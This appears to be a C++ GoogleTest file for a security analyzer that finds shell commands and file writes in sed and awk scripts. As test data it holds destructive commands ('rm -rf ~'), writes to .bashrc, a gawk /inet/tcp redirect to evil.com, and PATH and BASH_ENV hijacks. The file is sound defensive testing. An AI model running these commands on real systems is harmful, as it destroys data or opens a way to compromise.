#include "policy/tool_scripts.h"

#include <unistd.h>

#include <algorithm>
#include <cstdint>
#include <initializer_list>
#include <iterator>
#include <ostream>
#include <random>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include <gtest/gtest.h>

#include "support/subprocess.h"

namespace safesh::policy {
namespace {

// One script and everything the analysis must say about it. `computed` holds one fragment
// of each expected finding, in order; `problem` a fragment of the expected reason (empty: none).
struct Case {
  std::string script;
  std::vector<std::string> commands = {};
  std::vector<std::string> writes = {};
  std::vector<std::string> computed = {};
  std::string problem = {};
};

void PrintTo(const Case& c, std::ostream* os) {
  *os << '"' << c.script << '"';
}

std::string Join(const std::vector<std::string>& list) {
  std::string s;
  for (const std::string& item : list) {
    s += "[" + item + "] ";
  }
  return s;
}

void ExpectEffects(const ScriptEffects& got, const Case& want) {
  EXPECT_EQ(got.commands, want.commands);
  EXPECT_EQ(got.writes, want.writes);
  ASSERT_EQ(got.computed.size(), want.computed.size()) << Join(got.computed);
  for (size_t i = 0; i < want.computed.size(); ++i) {
    EXPECT_NE(got.computed[i].find(want.computed[i]), std::string::npos) << got.computed[i];
  }
  if (want.problem.empty()) {
    EXPECT_EQ(got.problem, "");
  } else {
    EXPECT_NE(got.problem.find(want.problem), std::string::npos) << got.problem;
  }
}

bool HasEffects(const ScriptEffects& e) {
  return !e.commands.empty() || !e.writes.empty() || !e.computed.empty();
}

bool Executable(const char* path) {
  return ::access(path, X_OK) == 0;
}

// ---------------------------------------------------------------------------------------------
// sed

const std::vector<Case>& SedCases() {
  static const std::vector<Case> cases = {
      // Ordinary filters: nothing to report.
      {.script = "s/a/b/g"},
      {.script = "1,5d"},
      {.script = "/x/!p"},
      {.script = "y/abc/xyz/"},
      {.script = "$!N;s/\\n/ /"},
      {.script = "s|/usr/local|/opt|g"},
      {.script = "s/[/]/x/"},  // a bracket expression holds the delimiter
      {.script = "s|[|]|x|"},
      {.script = "s/[[:alpha:]/]/x/g"},
      {.script = "s/[]/]/x/"},
      {.script = "/start/,/end/{/skip/d;p}"},
      {.script = "0,/re/s//X/"},
      {.script = "1~2p;2,~4p;1,+3p;1~3,+2p"},
      {.script = ":a;N;$!ba;s/\\n/,/g"},
      {.script = "/x/I,/y/Mp"},
      {.script = "\\%foo%d"},
      {.script = "\\,a\\,b,p"},
      {.script = "s/a/b/ ; p"},  // blanks between flags and before ';'
      {.script = "s/x/y/I;s/x/y/M;s/x/y/m3g;s/x/y/2p"},
      {.script = "a hello world"},
      {.script = "1i\\\ninserted line"},
      {.script = "$a\\\nline one\\\nline two"},
      {.script = "c\\changed"},
      {.script = "#n\np"},
      {.script = "# s/x/y/e and w /etc/passwd in a comment\np"},
      {.script = "l;l 5;q 3;=;F;z;n;N;P;D;h;H;g;G;x"},
      {.script = "Q"},
      {.script = "1{l 5}"},
      {.script = "v 4.2"},
      {.script = "v"},
      {.script = "r /etc/hosts"},  // reads only
      {.script = "R other.txt"},
      {.script = "0r header.txt"},
      {.script = "w /dev/stdout"},
      {.script = "s/x/y/w /dev/stderr"},
      {.script = "b end; s/x/y/; :end"},
      {.script = "{b end}; :end"},  // a label ends at '}' too
      {.script = "t;T;b"},
      {.script = "{p};p"},
      {.script = "$!{N;D}"},
      {.script = "s/x/e/;s/e/w/g;y/e/w/;/w x/p"},  // e and w as text, not as commands
      {.script = "a e rm -rf ~; w /etc/passwd"},   // all of it is the appended text
      {.script = "a one\\\nw /etc/passwd"},        // a continued text line
      {.script = "s/x/a\\\nw evil/"},              // a newline in the replacement
      {.script = "s/a\\/b/c/"},

      // Commands that run.
      {.script = "1e rm -rf ~", .commands = {"rm -rf ~"}},
      {.script = "/x/e echo hi", .commands = {"echo hi"}},
      {.script = "e;p", .commands = {";p"}},  // the text runs to the end of the line
      {.script = "$ e  echo a  ", .commands = {"echo a  "}},
      {.script = "e echo\\ta\\x41\\qz", .commands = {"echo\taAqz"}},
      {.script = "e \\echo", .commands = {"echo"}},
      {.script = "e\\\necho hi", .commands = {"echo hi"}},
      {.script = "1e echo a\\\necho b", .commands = {"echo a\necho b"}},
      {.script = "e echo one\ne echo two\ne echo one", .commands = {"echo one", "echo two"}},
      {.script = "s/x/y/;e rm x", .commands = {"rm x"}},
      {.script = "e", .computed = {"e without a command"}},
      {.script = "$e   ", .computed = {"e without a command"}},
      {.script = "e\np", .computed = {"e without a command"}},
      {.script = "s/x/y/e", .computed = {"s///e"}},
      {.script = "s/.*/rm -rf ~/e", .computed = {"s///e"}},
      {.script = "s/x/y/ge", .computed = {"s///e"}},

      // Files written.
      {.script = "w /home/u/.bashrc", .writes = {"/home/u/.bashrc"}},
      {.script = "s/a/b/w out.txt", .writes = {"out.txt"}},
      {.script = "W log", .writes = {"log"}},
      {.script = "w out; p", .writes = {"out; p"}},  // the name runs to the end of the line
      {.script = "w  trailing  ", .writes = {"trailing  "}},
      {.script = "s/a[/]b/c/w f", .writes = {"f"}},
      {.script = "s,a,b,gw /tmp/x", .writes = {"/tmp/x"}},
      {.script = "s/x/y/ w out", .writes = {"out"}},
      {.script = "y/a/b/;w x", .writes = {"x"}},
      {.script = "1{w x\n}", .writes = {"x"}},
      {.script = "a\\\ntext\nw evil", .writes = {"evil"}},  // the text ends at the newline
      {.script = "s/x/y/ew out", .writes = {"out"}, .computed = {"s///e"}},
      {.script = "w a\nw b\nw a", .writes = {"a", "b"}},
      {.script = "w /dev/stdin", .writes = {"/dev/stdin"}},

      // Scripts sed refuses, or that cannot be read for certain.
      {.script = "k", .problem = "unknown command: 'k'"},
      {.script = "s/a/b", .problem = "unterminated 's' command"},
      {.script = "s/a/b/x", .problem = "unknown option to 's'"},
      {.script = "s/x/[/]w evil/", .problem = "unknown option to 's'"},  // no brackets here
      {.script = "s/\\c//x/", .problem = "unknown option to 's'"},
      {.script = "s\na\nb\n", .problem = "unterminated 's' command"},
      {.script = "s/a\nb/c/", .problem = "unterminated 's' command"},
      {.script = "s/[a\n]/c/", .problem = "unterminated 's' command"},
      {.script = "y/abc/xy", .problem = "unterminated 'y' command"},
      {.script = "y/abc/xy/", .problem = "different lengths"},
      {.script = "p}", .problem = "unexpected '}'"},
      {.script = "{p", .problem = "unmatched '{'"},
      {.script = "ba", .problem = "no label 'a'"},
      {.script = "b a}", .problem = "unexpected '}'"},
      {.script = "1,3q", .problem = "only uses one address"},
      {.script = "+3p", .problem = "+N or ~N"},
      {.script = "0p", .problem = "line address 0"},
      {.script = "0,5p", .problem = "line address 0"},
      {.script = "s/a/b/w", .problem = "missing file name"},
      {.script = "w", .problem = "missing file name"},
      {.script = "r", .problem = "missing file name"},
      {.script = "a", .problem = "expected \\ after"},
      {.script = "s/a/b/gg", .problem = "multiple 'g'"},
      {.script = "s/a/b/pp", .problem = "multiple 'p'"},
      {.script = "s/a/b/2 3", .problem = "multiple number"},
      {.script = "s/a/b/0", .problem = "may not be zero"},
      {.script = "1!!p", .problem = "multiple '!'s"},
      {.script = "1:a", .problem = ": doesn't want any addresses"},
      {.script = ":", .problem = "lacks a label"},
      {.script = "1#x", .problem = "comments don't accept any addresses"},
      {.script = "pq", .problem = "extra characters after command"},
      {.script = "1,", .problem = "unexpected ','"},
      {.script = "/x", .problem = "unterminated address regex"},
      {.script = "1", .problem = "missing command"},
      {.script = "v 9.0", .problem = "newer version"},
      {.script = "s\xc3\xa9"
                 "a\xc3\xa9"
                 "b\xc3\xa9",
       .problem = "not an ASCII character"},
      {.script = "e echo \\c\\d", .problem = "recursive escaping"},
      {.script = std::string("w foo\0bar", 9), .problem = "NUL byte"},
      {.script = "e echo \\d0", .problem = "NUL byte"},
      // sed would carry these on into the next -e expression, which is not in view.
      {.script = "e echo hi\\", .problem = "next -e expression"},
      {.script = "e \\", .problem = "next -e expression"},
      // Effects found before the error are still reported: sed opens w files as it compiles.
      {.script = "w out\nk", .writes = {"out"}, .problem = "unknown command"},
  };
  return cases;
}

class SedScript : public ::testing::TestWithParam<Case> {};

TEST_P(SedScript, Effects) {
  ExpectEffects(AnalyzeSedScript(GetParam().script), GetParam());
}

INSTANTIATE_TEST_SUITE_P(Table, SedScript, ::testing::ValuesIn(SedCases()));

TEST(SedScript, FindingsSayWhatWasFound) {
  EXPECT_EQ(AnalyzeSedScript("s/x/y/e").computed,
            std::vector<std::string>{"sed s///e runs the pattern space as a shell command"});
  EXPECT_EQ(AnalyzeSedScript("e").computed,
            std::vector<std::string>{
                "sed e without a command runs the pattern space as a shell command"});
  EXPECT_EQ(AnalyzeSedScript("1d\nk").problem,
            "sed would reject the script: unknown command: 'k' (at character 4)");
}

TEST(SedScript, EmptyScriptDoesNothing) {
  ScriptEffects e = AnalyzeSedScript("");
  EXPECT_FALSE(HasEffects(e));
  EXPECT_EQ(e.problem, "");
  EXPECT_EQ(AnalyzeSedScript(" ;\n; ").problem, "");
}

// The real GNU sed as the judge. --sandbox makes it refuse e, r, w and s///e and s///w while
// compiling, before it opens or runs anything, and with no input nothing would run anyway. So:
// sed accepts ⇒ no effects and no problem; sed refuses for another reason ⇒ a problem; an
// effect or a problem here ⇒ sed refuses.
struct SedVerdict {
  bool ran = false;
  bool accepted = false;
  bool sandboxed = false;  // refused for an e/r/w command
  std::string err;
};

bool HaveGnuSed() {
  static const bool have = [] {
    if (!Executable("/usr/bin/sed")) return false;
    testing::RunOutput out = testing::RunProgram({"/usr/bin/sed", "--version"});
    return out.exit_code == 0 && out.out.find("GNU sed") != std::string::npos;
  }();
  return have;
}

SedVerdict JudgeWithSed(const std::string& script) {
  SedVerdict v;
  if (script.find('\0') != std::string::npos) return v;
  testing::RunOptions options;
  options.env = {"LC_ALL=C.UTF-8"};
  testing::RunOutput out =
      testing::RunProgram({"/usr/bin/sed", "--sandbox", "-n", "-e", script}, options);
  v.ran = !out.timed_out && out.signal == 0;
  v.accepted = out.exit_code == 0;
  v.sandboxed = out.err.find("disabled in sandbox mode") != std::string::npos;
  v.err = out.err;
  return v;
}

// sed compiles each regex as it reads it and refuses a malformed one. The analysis does not
// check regex syntax: a script sed refuses cannot do anything, so reporting more for it is
// harmless.
bool IsRegexError(const std::string& err) {
  for (const char* message :
       {"Invalid back reference", "Unmatched", "Invalid preceding regular expression",
        "Trailing backslash", "Invalid range end", "Invalid content of", "Invalid character class",
        "Invalid collation character", "Premature end of regular expression",
        "Regular expression too big", "Invalid regular expression", "no previous regular",
        "on `s' command's RHS"}) {
    if (err.find(message) != std::string::npos) return true;
  }
  return false;
}

void ExpectAgreesWithSed(const std::string& script) {
  SedVerdict v = JudgeWithSed(script);
  if (!v.ran || (!v.accepted && !v.sandboxed && IsRegexError(v.err))) return;
  ScriptEffects e = AnalyzeSedScript(script);
  SCOPED_TRACE("script: \"" + script + "\" sed said: " + v.err);
  if (v.accepted) {
    EXPECT_FALSE(HasEffects(e)) << Join(e.commands) << Join(e.writes) << Join(e.computed);
    EXPECT_EQ(e.problem, "");
  } else if (!v.sandboxed) {
    EXPECT_NE(e.problem, "");
  }
  if (HasEffects(e) && e.problem.empty()) {
    EXPECT_TRUE(v.sandboxed);
  }
  if (!e.problem.empty()) {
    EXPECT_FALSE(v.accepted) << e.problem;
  }
}

TEST(SedAgreement, TableAgreesWithGnuSed) {
  if (!HaveGnuSed()) GTEST_SKIP() << "GNU sed is not installed";
  for (const Case& c : SedCases()) {
    ExpectAgreesWithSed(c.script);
  }
}

// Scripts put together from pieces that stress where commands, texts and names end.
TEST(SedAgreement, GeneratedScriptsAgreeWithGnuSed) {
  if (!HaveGnuSed()) GTEST_SKIP() << "GNU sed is not installed";
  static const char* const kPieces[] = {
      "s",  "/",  "|",  "a",  "b",  "\\",  "[",    "]",   "w",  " ",   "x",     "e", "p", ";",
      "\n", "{",  "}",  "1",  ",",  "$",   "!",    "y",   "#",  ":",   "g",     "I", "r", "~",
      "+",  "0",  "n",  "q",  "5",  "c",   "i",    "l",   "=",  "\t",  "^",     "M", "*", ".",
      "&",  "[:", ":]", "v",  "t",  "T",   "W",    "R",   "F",  "z",   "d",     "D", "h", "G",
      "e ", "w ", "s/", "/e", "/w", "\\n", "\\\n", "a\\", "y/", "/x/", "s/a/b/"};
  std::mt19937 rng(20240611);
  std::uniform_int_distribution<size_t> pick(0, std::size(kPieces) - 1);
  std::uniform_int_distribution<int> length(1, 10);
  for (int n = 0; n < 1500; ++n) {
    std::string script;
    for (int k = length(rng); k > 0; --k) {
      script += kPieces[pick(rng)];
    }
    ExpectAgreesWithSed(script);
    if (HasFailure()) return;
  }
}

// What sed itself makes of an `e` command's text: `sed --debug` prints the compiled program,
// and with no input it runs nothing. Only echo is ever named here.
TEST(SedAgreement, ExecuteTextMatchesGnuSed) {
  if (!HaveGnuSed()) GTEST_SKIP() << "GNU sed is not installed";
  for (const char* script :
       {"e echo a", "e   echo b  ", "e echo\\tc\\x41\\o101\\d065\\qz", "e \\echo d", "e\\\necho e",
        "e echo f\\\necho g", "e echo \\cA\\c\\\\", "e echo ;h", "e echo }i"}) {
    SCOPED_TRACE(script);
    testing::RunOptions options;
    options.env = {"LC_ALL=C.UTF-8"};
    testing::RunOutput out =
        testing::RunProgram({"/usr/bin/sed", "--debug", "-n", "-e", script}, options);
    ASSERT_EQ(out.exit_code, 0) << out.err;
    ScriptEffects e = AnalyzeSedScript(script);
    ASSERT_EQ(e.commands.size(), 1u);
    EXPECT_EQ(out.out, "SED PROGRAM:\n  e " + e.commands[0] + "\n\n");
  }
}

// ---------------------------------------------------------------------------------------------
// awk

const std::vector<Case>& AwkCases() {
  static const std::vector<Case> cases = {
      // Ordinary programs: nothing to report.
      {.script = "{print $1}"},
      {.script = "$3 > 100 {print}"},
      {.script = "{ if ($1 > x) print $1 }"},
      {.script = "BEGIN{print (1>2)}"},
      {.script = "BEGIN { printf(\"%d\\n\", 3 > 2) }"},
      {.script = "/a|b/ {print}"},
      {.script = "$0 ~ /->/ { print $2 }"},
      {.script = "/x>y|z/"},
      {.script = "{ print /a>b/ ? \"y\" : \"n\" }"},
      {.script = "{ print \"system(\\\"rm -rf ~\\\")\" }"},
      {.script = "{ print \"a > b | c\" }"},
      {.script = "{ print $1 / 2 }"},
      {.script = "{ print a[1] / 2, NF / 2, (NF) / 2 }"},
      {.script = "BEGIN { x = 4 / 2 / 1; y /= 2 }"},
      {.script = "{ n = split($0, a, /:/); print n }"},
      {.script = "NR==FNR{a[$1];next} $1 in a"},
      {.script = "{ sum += $2 } END { print sum / NR }"},
      {.script = "{ print > \"/dev/stderr\" }"},
      {.script = "{ printf \"%s\\n\", $0 > \"/dev/stdout\" }"},
      {.script = "{ print $NF >> \"/dev/fd/2\" }"},
      {.script = "# print > \"x\" | \"sh\"\n{ print }"},
      {.script = "{ x = \"a\" \"b\"; print x }"},
      {.script = "{ getline line < \"/etc/hosts\"; print line }"},
      {.script = "BEGIN { while ((getline l < \"f\") > 0) n++; print n }"},
      {.script = "{ a[$1]++ } END { for (k in a) print k, a[k] }"},
      {.script = "{ print (a > b ? \"x\" : \"y\") }"},
      {.script = "{ gsub(/[[:space:]]+/, \" \"); print }"},
      {.script = "{ print length }"},
      {.script = "{ print length($0) / 2 }"},
      {.script = "{ print \\\n $1 }"},
      {.script = "{ print $1,\n  $2 }"},
      {.script = "BEGIN { print 1 }\n/x/ { print 2 }"},
      {.script = "BEGIN { if (1) print \"a\"; else print \"b\" }"},
      {.script = "function f(x) { return x * 2 } { print f($1) }"},
      {.script = "{ print $1 }\n/[/]x/", .problem = "inside a bracket expression"},
      {.script = "/\\// { print }"},
      {.script = "BEGIN { print 1 > 2 }", .computed = {"output redirection (>) to a file named"}},
      {.script = "$1 >= 2 && $2 <= 3 { print $1 >= 2 }"},
      {.script = "{ close(\"f\"); fflush() }"},

      // Commands that run.
      {.script = "BEGIN{system(\"rm -rf ~\")}", .commands = {"rm -rf ~"}},
      {.script = "BEGIN { system (\"ls\") }", .commands = {"ls"}},
      {.script = "BEGIN { system(\"echo\\tA\\101\") }", .commands = {"echo\tAA"}},
      {.script = "{print | \"sh\"}", .commands = {"sh"}},
      {.script = "{ print | \"cat 1>&2\" }", .commands = {"cat 1>&2"}},
      {.script = "{ print $0 | \"sort -u\"; close(\"sort -u\") }", .commands = {"sort -u"}},
      {.script = "BEGIN { printf \"x\" | \"sh\" }", .commands = {"sh"}},
      {.script = "{ printf(\"%s\\n\", $1) | \"mail -s hi a@b.c\" }",
       .commands = {"mail -s hi a@b.c"}},
      {.script = "{ \"date\" | getline d }", .commands = {"date"}},
      {.script = "BEGIN { while ((\"ls\" | getline f) > 0) print f }", .commands = {"ls"}},
      {.script = "BEGIN { x = \"uname\" | getline; print x }", .commands = {"uname"}},
      {.script = "BEGIN { print \"x\" |& \"cat\" }", .commands = {"cat"}},
      {.script = "BEGIN { \"date\" |& getline d }", .commands = {"date"}},
      {.script = "{ if (c) /\"/; system(\"id\") }", .commands = {"id"}},  // a regex after if (...)
      {.script = "BEGIN { x = 1 / 2; system(\"id\") } # /", .commands = {"id"}},
      {.script = "BEGIN { system(\"a\"); system(\"b\"); system(\"a\") }", .commands = {"a", "b"}},
      {.script = "BEGIN { system(\"\") }", .commands = {""}},
      {.script = "BEGIN { print \"x\" > \"f\"; system(\"id\") }",
       .commands = {"id"},
       .writes = {"f"}},
      {.script = "BEGIN{cmd=\"x\"; system(cmd)}", .computed = {"system() with a command computed"}},
      {.script = "BEGIN { system(\"rm \" \"-rf\") }", .computed = {"system()"}},
      {.script = "BEGIN { system(\"rm \\/x\") }", .computed = {"escapes"}},
      {.script = "BEGIN { system(\"ls\\0 -l\") }", .computed = {"escapes"}},
      {.script = "{ print | cmd }", .computed = {"piped (|) to a shell command that is computed"}},
      {.script = "BEGIN { \"echo \" \"hi\" | getline v }", .computed = {"| getline"}},
      {.script = "{ cmd | getline x }", .computed = {"| getline"}},
      {.script = "{ print \"x\" | getline }", .computed = {"piped (|)"}},
      {.script = "BEGIN { c = \"cat\"; print 1 |& c }", .computed = {"coprocess"}},

      // Files written.
      {.script = "{print > \"/home/u/.bashrc\"}", .writes = {"/home/u/.bashrc"}},
      {.script = "{ print >> \"log.txt\" }", .writes = {"log.txt"}},
      {.script = "{ printf \"%s\", $0 > \"out\" }", .writes = {"out"}},
      {.script = "{ printf(\"%s\", $0) > \"out\" }", .writes = {"out"}},
      {.script = "BEGIN { print (1) > \"f\" }", .writes = {"f"}},
      {.script = "BEGIN { print(1)(2) > \"f1\" }", .writes = {"f1"}},
      {.script = "{ print \"a\" > \"f\"; print \"b\" > \"f\" }", .writes = {"f"}},
      {.script = "BEGIN { print \"a\",\n\"b\" > \"out3\" }", .writes = {"out3"}},
      {.script = "BEGIN { print \"x\" > \"-\" }", .writes = {"-"}},  // mawk creates "-"
      {.script = "function w(s) { print s > \"/tmp/x\" } { w($0) }", .writes = {"/tmp/x"}},
      {.script = "{ print $1 > $2 }", .computed = {"output redirection (>)"}},
      {.script = "{ print > $1 \".txt\" }", .computed = {"output redirection (>)"}},
      {.script = "{ print \"q\" > \"out\" \"2\" }", .computed = {"output redirection (>)"}},
      {.script = "BEGIN { print 1 > 2 ? \"t\" : \"f\" }", .computed = {"output redirection"}},
      {.script = "BEGIN { print 1, 2 > (x ? \"a\" : \"b\") }", .computed = {"output redirection"}},
      {.script = "{ print > \"o\\/x\" }", .computed = {"escapes"}},
      {.script = "BEGIN { getline line < file }", .computed = {"getline reads a file named"}},
      // After the first redirection the rest is the target: '>' compares there (mawk writes
      // to a file named "0" or "1"; gawk refuses the program).
      {.script = "{ printf \"#\", x > /x/ > \"|\" }", .computed = {"output redirection (>)"}},
      {.script = "BEGIN { print \"a\" > \"f\" > \"g\" }", .computed = {"output redirection"}},
      {.script = "{ print > (\"/dev/stderr\") }"},  // parentheses keep a literal literal
      {.script = "{ print | ((\"sort\")) }", .commands = {"sort"}},
      {.script = "{ getline x < (\"f\") }"},
      {.script = "{ print > (\"a\") (\"b\") }", .computed = {"output redirection"}},
      {.script = "{ print \"x\" > \"f\" | \"cmd\" }",
       .computed = {"output redirection"},
       .problem = "neither the output of print nor an input to getline"},

      // Programs that cannot be read for certain.
      {.script = "BEGIN { print \"abc }", .problem = "unterminated string"},
      {.script = "BEGIN { print \"a\nb\" }", .problem = "newline inside a string"},
      {.script = "/abc", .problem = "unterminated regex"},
      {.script = "{ print length / 2 }", .problem = "division to gawk but a regex to mawk"},
      {.script = "{ x++ / 2 }", .problem = "division to gawk but a regex to mawk"},
      {.script = "/[/]/", .problem = "inside a bracket expression"},
      {.script = "/[[:alpha:]/", .problem = "inside a bracket expression"},
      {.script = "{ print \"a\" | }", .problem = "without a target"},
      {.script = "{ x | y }", .problem = "neither the output of print nor an input to getline"},
      {.script = "{ print \\x }", .problem = "backslash"},
      {.script = "{ print `id` }", .problem = "unexpected character '`'"},
      {.script = "{ print 'x' }", .problem = "unexpected character"},
      {.script = "BEGIN { x = 1 & 2 }", .problem = "unexpected character '&'"},
      {.script = "BEGIN { awk::system(\"x\") }", .problem = "::"},
      {.script = "{ system }", .problem = "system without an argument list"},
      // gawk passes ENVIRON, as the program changed it, to the commands it runs.
      {.script = "BEGIN { ENVIRON[\"BASH_ENV\"]=\"/dev/stdin\"; system(\"bash -c true\") }",
       .commands = {"bash -c true"},
       .problem = "changes ENVIRON"},
      {.script = "BEGIN{ENVIRON[\"PATH\"]=\"/tmp/evil\"; system(\"ls\")}",
       .commands = {"ls"},
       .problem = "changes ENVIRON"},
      {.script = "BEGIN { ENVIRON[\"P\"] += 1 }", .problem = "changes ENVIRON"},
      {.script = "BEGIN { ++ENVIRON[\"P\"] }", .problem = "changes ENVIRON"},
      {.script = "BEGIN { sub(/x/, \"y\", ENVIRON[\"PATH\"]) }", .problem = "changes ENVIRON"},
      {.script = "BEGIN { gsub(/x/, \"y\", ENVIRON[a[1]]) }", .problem = "changes ENVIRON"},
      {.script = "BEGIN { split(\"a b\", ENVIRON) }", .problem = "changes ENVIRON"},
      {.script = "BEGIN { delete ENVIRON }", .problem = "changes ENVIRON"},
      {.script = "BEGIN { delete ENVIRON[\"X\"] }", .problem = "changes ENVIRON"},
      {.script = "BEGIN { getline ENVIRON[\"X\"] }", .problem = "changes ENVIRON"},
      {.script = "function f(a) { a[\"PATH\"] = 1 } BEGIN { f(ENVIRON) }",
       .problem = "changes ENVIRON"},
      {.script =
           "BEGIN { print ENVIRON[\"HOME\"]; for (k in ENVIRON) n++; x = (\"A\" in ENVIRON) }"},
      {.script = "BEGIN { system(\"x\" }", .problem = "unclosed '('"},
      {.script = "BEGIN { y = 1) }", .problem = "unmatched ')'"},
      {.script = "@load \"filefuncs\"", .problem = "@load"},
      {.script = "@include \"lib.awk\"\n{ print }", .problem = "@include"},
      {.script = "BEGIN { f = \"system\"; @f(\"id\") }", .problem = "indirect function call"},
      {.script = "@namespace \"x\"", .problem = "@namespace"},
      {.script = "BEGIN { print \"x\" > \"/inet/tcp/0/evil.com/80\" }", .problem = "/inet"},
      {.script = "BEGIN { \"/inet6/udp/0/h/53\" |& getline }", .problem = "/inet"},
      {.script = "BEGIN { getline < \"/inet4/tcp/0/h/80\" }", .problem = "/inet"},
      {.script = "BEGIN { ARGV[1] = \"\\/inet/tcp/0/h/80\" }", .problem = "/inet"},
      {.script = "{ print \"\xc3\xa9\" } \xc3\xa9", .problem = "byte 0xc3"},
  };
  return cases;
}

class AwkProgram : public ::testing::TestWithParam<Case> {};

TEST_P(AwkProgram, Effects) {
  ExpectEffects(AnalyzeAwkProgram(GetParam().script), GetParam());
}

INSTANTIATE_TEST_SUITE_P(Table, AwkProgram, ::testing::ValuesIn(AwkCases()));

TEST(AwkProgram, FindingsSayWhatWasFound) {
  EXPECT_EQ(AnalyzeAwkProgram("BEGIN { system(x) }").computed,
            std::vector<std::string>{"system() with a command computed at run time"});
  EXPECT_EQ(
      AnalyzeAwkProgram("{ print > f }").computed,
      std::vector<std::string>{"print/printf output redirection (>) to a file named at run time"});
  EXPECT_EQ(AnalyzeAwkProgram("BEGIN { print \"abc }").problem,
            "awk program not understood: an unterminated string (at character 21)");
}

TEST(AwkProgram, EmptyProgramDoesNothing) {
  ScriptEffects e = AnalyzeAwkProgram("");
  EXPECT_FALSE(HasEffects(e));
  EXPECT_EQ(e.problem, "");
}

// mawk as the judge: `mawk -W dump` compiles a program and lists its code without running it.
// The listing shows every system() call and every redirection by kind (-1 print >, -2 print >>,
// -3 print |, -4 cmd | getline, -5 getline <), with the string pushed just before when the
// target is a literal.
struct MawkEffect {
  int kind;                  // 0 for system(), else the redirection kind above
  bool literal;              // target is a string literal
  std::string literal_text;  // as mawk lists it (escaped)
};

bool HaveMawk() {
  return Executable("/usr/bin/mawk");
}

// Returns false when mawk does not compile the program.
bool MawkEffects(const std::string& program, std::vector<MawkEffect>* effects) {
  testing::RunOptions options;
  options.env = {"LC_ALL=C"};
  testing::RunOutput out = testing::RunProgram({"/usr/bin/mawk", "-W", "dump", program}, options);
  if (out.exit_code != 0 || out.timed_out) return false;
  struct Line {
    std::string address, op, arg;
  };
  std::vector<Line> lines;
  int section = 0;
  size_t start = 0;
  while (start < out.out.size()) {
    size_t end = out.out.find('\n', start);
    if (end == std::string::npos) end = out.out.size();
    std::string line = out.out.substr(start, end - start);
    start = end + 1;
    size_t tab = line.find('\t');
    if (tab == std::string::npos) {  // BEGIN, MAIN, a function: addresses start again
      ++section;
      lines.push_back({});
      continue;
    }
    size_t tab2 = line.find('\t', tab + 1);
    lines.push_back({std::to_string(section) + ":" + line.substr(0, line.find(' ')),
                     line.substr(tab + 1, tab2 == std::string::npos ? tab2 : tab2 - tab - 1),
                     tab2 == std::string::npos ? "" : line.substr(tab2 + 1)});
  }
  // A string followed by a jump target ends a branch of ?: and is not the target itself.
  std::set<std::string> jump_targets;
  for (const Line& l : lines) {
    size_t digits = l.arg.find_first_not_of('\t');
    if (l.op.find('j') != std::string::npos && digits != std::string::npos) {
      jump_targets.insert(l.address.substr(0, l.address.find(':') + 1) + l.arg.substr(digits));
    }
  }
  auto string_at = [&](size_t i, MawkEffect* e) {
    if (i + 1 < lines.size() && lines[i].op == "pushs" && lines[i].arg.size() >= 2 &&
        !jump_targets.count(lines[i + 1].address)) {
      e->literal = true;
      e->literal_text = lines[i].arg.substr(1, lines[i].arg.size() - 2);
    }
  };
  for (size_t i = 0; i < lines.size(); ++i) {
    MawkEffect e{0, false, {}};
    if (lines[i].op == "system") {
      if (i >= 1) string_at(i - 1, &e);
      effects->push_back(e);
    } else if (lines[i].op == "pushint" && i + 1 < lines.size() &&
               (lines[i + 1].op == "print" || lines[i + 1].op == "printf" ||
                lines[i + 1].op == "getline") &&
               lines[i].arg.size() == 2 && lines[i].arg[0] == '-' && lines[i].arg[1] >= '1' &&
               lines[i].arg[1] <= '5') {
      e.kind = lines[i].arg[1] - '0';
      if (e.kind == 4) {
        // The command comes before the variable getline assigns: a variable or $N, or an
        // array element or $(N) after its (assumed simple) index.
        const std::string& var = lines[i - 1].op;
        if (i >= 2 && (var == "pusha" || var == "f_pusha")) string_at(i - 2, &e);
        if (i >= 3 && (var == "ae_pusha" || var == "fe_pusha")) string_at(i - 3, &e);
      } else if (i >= 1) {
        string_at(i - 1, &e);
      }
      effects->push_back(e);
    }
  }
  return true;
}

bool Contains(const std::vector<std::string>& list, const std::string& item) {
  return std::find(list.begin(), list.end(), item) != list.end();
}

bool Plain(const std::string& s) {
  return std::all_of(s.begin(), s.end(),
                     [](char c) { return c >= 0x20 && c < 0x7f && c != '\\' && c != '"'; });
}

// Checks the analysis against mawk's listing when mawk compiles the program and the analysis
// found no problem: everything mawk would run or write is reported (a literal as that literal,
// or else as computed), and everything reported as literal is in mawk's listing.
void ExpectAgreesWithMawk(const std::string& program) {
  std::vector<MawkEffect> mawk;
  if (!MawkEffects(program, &mawk)) return;
  ScriptEffects e = AnalyzeAwkProgram(program);
  if (!e.problem.empty()) return;  // fail-closed is always allowed
  SCOPED_TRACE("program: \"" + program + "\"");
  bool any_mawk_effect = false;
  std::vector<std::string> mawk_commands, mawk_writes;
  for (const MawkEffect& m : mawk) {
    bool output_file = m.kind == 1 || m.kind == 2;
    bool command = m.kind == 0 || m.kind == 3 || m.kind == 4;
    if (m.kind == 5 && m.literal) continue;  // reading a named file
    if (output_file && m.literal &&
        (m.literal_text == "/dev/stdout" || m.literal_text == "/dev/stderr" ||
         m.literal_text == "/dev/fd/1" || m.literal_text == "/dev/fd/2")) {
      continue;
    }
    any_mawk_effect = true;
    if (m.literal && command) mawk_commands.push_back(m.literal_text);
    if (m.literal && output_file) mawk_writes.push_back(m.literal_text);
    if (m.literal && Plain(m.literal_text)) {
      if (command && !Contains(e.commands, m.literal_text)) {
        EXPECT_FALSE(e.computed.empty()) << "mawk runs \"" << m.literal_text << "\"";
      }
      if (output_file && !Contains(e.writes, m.literal_text)) {
        EXPECT_FALSE(e.computed.empty()) << "mawk writes \"" << m.literal_text << "\"";
      }
    } else {
      EXPECT_FALSE(e.computed.empty() && (command ? e.commands.empty() : e.writes.empty()))
          << "mawk has a computed effect of kind " << m.kind;
    }
  }
  if (!any_mawk_effect) {
    EXPECT_FALSE(HasEffects(e)) << Join(e.commands) << Join(e.writes) << Join(e.computed);
  }
  for (const std::string& c : e.commands) {
    if (Plain(c)) {
      EXPECT_TRUE(Contains(mawk_commands, c)) << "reported command " << c;
    }
  }
  for (const std::string& w : e.writes) {
    if (Plain(w)) {
      EXPECT_TRUE(Contains(mawk_writes, w)) << "reported write " << w;
    }
  }
}

TEST(AwkAgreement, TableAgreesWithMawk) {
  if (!HaveMawk()) GTEST_SKIP() << "mawk is not installed";
  for (const Case& c : AwkCases()) {
    ExpectAgreesWithMawk(c.script);
  }
}

// Random awk programs from a small grammar, mostly valid, built around what is hard to read:
// '>' and '|' inside and outside print and parentheses, getline in all its forms, regexes and
